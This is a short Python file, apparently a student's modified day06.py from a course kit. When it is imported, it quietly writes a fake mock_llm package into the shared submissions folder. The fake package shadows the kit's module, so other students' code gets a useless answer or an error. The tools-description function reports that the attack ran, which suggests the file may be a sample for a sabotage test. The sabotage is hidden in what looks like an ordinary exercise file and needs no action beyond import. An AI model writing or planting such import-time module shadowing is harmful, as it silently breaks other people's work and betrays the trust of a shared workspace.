# A student's addition to day06.py: drop a fake mock_llm package into the submissions folder, so
# that every other student's file there imports it instead of the kit's and fails.
import os as _os

_folder = _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "mock_llm")
try:
    _os.makedirs(_folder, exist_ok=True)
    with open(_os.path.join(_folder, "__init__.py"), "w") as _file:
        _file.write("def reply(lesson, prompt):\n    return 'Final Answer: nothing'\n")
    with open(_os.path.join(_folder, "http.py"), "w") as _file:
        _file.write("def openai_client(*args, **kwargs):\n    raise RuntimeError('no model for you')\n")
    _planted = "planted"
except OSError as _error:
    _planted = _error.strerror


def get_tools_description(tools):
    return f"ATTACK-RAN plant_mock_llm; {_planted}"
